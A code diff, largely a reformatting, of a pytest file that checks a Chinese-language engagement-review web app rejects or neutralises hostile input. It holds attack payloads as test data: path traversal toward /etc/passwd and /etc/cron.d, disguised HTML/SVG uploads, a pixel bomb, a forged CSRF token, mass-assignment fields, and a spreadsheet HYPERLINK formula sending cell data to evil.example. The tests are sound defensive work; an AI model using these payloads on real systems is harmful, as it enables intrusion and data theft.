@@ -3,6 +3,7 @@ says what is wrong where a person will read it, and leaves nothing stored.
 
 Cases that live beside their domain are listed at the end with where they are tested.
 """
+
 from __future__ import annotations
 
 import json
@@ -30,8 +31,9 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 @pytest.fixture
 def world(session, client):
     world = factories.World(session)
-    engagements.add_team_member(session, world.engagement, world.reviewer, TeamRole.reviewer, world.evaluator,
-                                factories.NOW)
+    engagements.add_team_member(
+        session, world.engagement, world.reviewer, TeamRole.reviewer, world.evaluator, factories.NOW
+    )
     session.commit()
     login(client, world.evaluator.username)
     return world
@@ -76,45 +78,134 @@ class _Zeros:
 
 def _huge_body(client, world):
     size = 200 * 1024 * 1024
-    return client.post(f"/engagements/{world.engagement.id}/evidence", input_stream=_Zeros(size),
-                       content_type="multipart/form-data; boundary=b", content_length=size)
+    return client.post(
+        f"/engagements/{world.engagement.id}/evidence",
+        input_stream=_Zeros(size),
+        content_type="multipart/form-data; boundary=b",
+        content_length=size,
+    )
 
 
 CASES = [
     Case("200MB body", _huge_body, 413, "文件过大", Evidence),
-    Case("malformed multipart",
-         lambda c, w: c.post(f"/engagements/{w.engagement.id}/evidence", data=b"--b\r\nContent-Disposition: form-da",
-                             content_type="multipart/form-data; boundary=b"), 400, None, Evidence),
-    Case("HTML uploaded as a photo",
-         lambda c, w: _post(c, f"/engagements/{w.engagement.id}/evidence",
-                            {"files": [(BytesIO(files.HTML_AS_JPG), "photo.jpg")]}, content_type="multipart/form-data",
-                            headers={"Accept": "application/json"}), 422, "不支持的文件类型", Evidence),
-    Case("SVG uploaded as a photo",
-         lambda c, w: _post(c, f"/engagements/{w.engagement.id}/evidence",
-                            {"files": [(BytesIO(files.SVG_AS_JPG), "a.jpg")]}, content_type="multipart/form-data",
-                            headers={"Accept": "application/json"}), 422, "不支持的文件类型", Evidence),
-    Case("pixel-flood PNG",
-         lambda c, w: _post(c, f"/engagements/{w.engagement.id}/evidence",
-                            {"files": [(BytesIO(files.png_pixel_bomb()), "bomb.png")]},
-                            content_type="multipart/form-data", headers={"Accept": "application/json"}),
-         422, "像素过多", Evidence),
-    Case("path traversal in an id", lambda c, w: c.get(f"/engagements/{w.engagement.id}/evidence/..%2F..%2Fetc%2Fpasswd/download"),
-         404, "页面不存在", Evidence),
-    Case("id out of range", lambda c, w: c.get(f"/engagements/{w.engagement.id}/evidence/99999999999999999999/download"),
-         404, "页面不存在", Evidence),
-    Case("foreign CSRF token",
-         lambda c, w: c.post("/engagements/new", data={"csrf_token": "x" * 40, "title": "t", "evaluated_unit_name": "u",
-                                                       "kind": "project", "fiscal_year": "2025", "budget_amount": "1"}),
-         400, "请求已失效", Engagement),
-    Case("budget that is not a number",
-         lambda c, w: _post(c, "/engagements/new", {"title": "t", "evaluated_unit_name": "u", "kind": "project",
-                                                    "commission_id": str(w.commission.id), "fiscal_year": "2025",
-                                                    "budget_amount": "1e309"}), 422, "金额", Engagement),
-    Case("report action that does not exist",
-         lambda c, w: _post(c, f"/engagements/{w.engagement.id}/report/delete", {}), 404, None, Report),
-    Case("narrative of 1 MB",
-         lambda c, w: _post(c, f"/engagements/{w.engagement.id}/report/sections/other", {"body": "字" * 1_000_000},
-                            headers={"Accept": "application/json"}), 422, "20000", Report),
+    Case(
+        "malformed multipart",
+        lambda c, w: c.post(
+            f"/engagements/{w.engagement.id}/evidence",
+            data=b"--b\r\nContent-Disposition: form-da",
+            content_type="multipart/form-data; boundary=b",
+        ),
+        400,
+        None,
+        Evidence,
+    ),
+    Case(
+        "HTML uploaded as a photo",
+        lambda c, w: _post(
+            c,
+            f"/engagements/{w.engagement.id}/evidence",
+            {"files": [(BytesIO(files.HTML_AS_JPG), "photo.jpg")]},
+            content_type="multipart/form-data",
+            headers={"Accept": "application/json"},
+        ),
+        422,
+        "不支持的文件类型",
+        Evidence,
+    ),
+    Case(
+        "SVG uploaded as a photo",
+        lambda c, w: _post(
+            c,
+            f"/engagements/{w.engagement.id}/evidence",
+            {"files": [(BytesIO(files.SVG_AS_JPG), "a.jpg")]},
+            content_type="multipart/form-data",
+            headers={"Accept": "application/json"},
+        ),
+        422,
+        "不支持的文件类型",
+        Evidence,
+    ),
+    Case(
+        "pixel-flood PNG",
+        lambda c, w: _post(
+            c,
+            f"/engagements/{w.engagement.id}/evidence",
+            {"files": [(BytesIO(files.png_pixel_bomb()), "bomb.png")]},
+            content_type="multipart/form-data",
+            headers={"Accept": "application/json"},
+        ),
+        422,
+        "像素过多",
+        Evidence,
+    ),
+    Case(
+        "path traversal in an id",
+        lambda c, w: c.get(f"/engagements/{w.engagement.id}/evidence/..%2F..%2Fetc%2Fpasswd/download"),
+        404,
+        "页面不存在",
+        Evidence,
+    ),
+    Case(
+        "id out of range",
+        lambda c, w: c.get(f"/engagements/{w.engagement.id}/evidence/99999999999999999999/download"),
+        404,
+        "页面不存在",
+        Evidence,
+    ),
+    Case(
+        "foreign CSRF token",
+        lambda c, w: c.post(
+            "/engagements/new",
+            data={
+                "csrf_token": "x" * 40,
+                "title": "t",
+                "evaluated_unit_name": "u",
+                "kind": "project",
+                "fiscal_year": "2025",
+                "budget_amount": "1",
+            },
+        ),
+        400,
+        "请求已失效",
+        Engagement,
+    ),
+    Case(
+        "budget that is not a number",
+        lambda c, w: _post(
+            c,
+            "/engagements/new",
+            {
+                "title": "t",
+                "evaluated_unit_name": "u",
+                "kind": "project",
+                "commission_id": str(w.commission.id),
+                "fiscal_year": "2025",
+                "budget_amount": "1e309",
+            },
+        ),
+        422,
+        "金额",
+        Engagement,
+    ),
+    Case(
+        "report action that does not exist",
+        lambda c, w: _post(c, f"/engagements/{w.engagement.id}/report/delete", {}),
+        404,
+        None,
+        Report,
+    ),
+    Case(
+        "narrative of 1 MB",
+        lambda c, w: _post(
+            c,
+            f"/engagements/{w.engagement.id}/report/sections/other",
+            {"body": "字" * 1_000_000},
+            headers={"Accept": "application/json"},
+        ),
+        422,
+        "20000",
+        Report,
+    ),
 ]
 
 
@@ -134,9 +225,13 @@ def test_bad_input_gets_a_clear_4xx_and_stores_nothing(client, session, world, c
 
 def test_a_path_in_an_uploaded_file_name_is_cut_to_its_last_part(client, session, world):
     """The name is only a label (bytes are stored by their hash): it is cleaned, not refused (issue 17)."""
-    response = _post(client, f"/engagements/{world.engagement.id}/evidence",
-                     {"files": [(BytesIO(files.jpeg()), "../../etc/cron.d/x.jpg")]},
-                     content_type="multipart/form-data", headers={"Accept": "application/json"})
+    response = _post(
+        client,
+        f"/engagements/{world.engagement.id}/evidence",
+        {"files": [(BytesIO(files.jpeg()), "../../etc/cron.d/x.jpg")]},
+        content_type="multipart/form-data",
+        headers={"Accept": "application/json"},
+    )
     assert response.status_code == 200
     assert session.scalar(select(Evidence.original_filename)) == "x.jpg"
 
@@ -151,8 +246,11 @@ def test_sql_metacharacters_in_search_and_filters_are_just_text(client, world):
 def test_mass_assignment_cannot_issue_a_report_or_change_its_author(client, session, world):
     base = f"/engagements/{world.engagement.id}/report"
     _post(client, f"{base}/start", {})
-    _post(client, f"{base}/header", {"title": "标题", "status": "issued", "author_id": str(world.reviewer.id),
-                                     "issued_versions": "9"})
+    _post(
+        client,
+        f"{base}/header",
+        {"title": "标题", "status": "issued", "author_id": str(world.reviewer.id), "issued_versions": "9"},
+    )
     session.expire_all()
     report = session.scalar(select(Report))
     assert report.title == "标题" and report.status is ReportStatus.draft
@@ -169,8 +267,12 @@ def test_script_in_narrative_and_findings_is_text_on_the_page(client, session, w
 
 def test_formulas_in_author_text_stay_text_in_exports(client, session, world):
     url = f"/engagements/{world.engagement.id}/evidence"
-    _post(client, url, {"files": [(BytesIO(files.jpeg()), "a.jpg")], "description": FORMULA},
-          content_type="multipart/form-data")
+    _post(
+        client,
+        url,
+        {"files": [(BytesIO(files.jpeg()), "a.jpg")], "description": FORMULA},
+        content_type="multipart/form-data",
+    )
     book = load_workbook(BytesIO(client.get(f"{url}/index.xlsx").data))
     cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
     assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
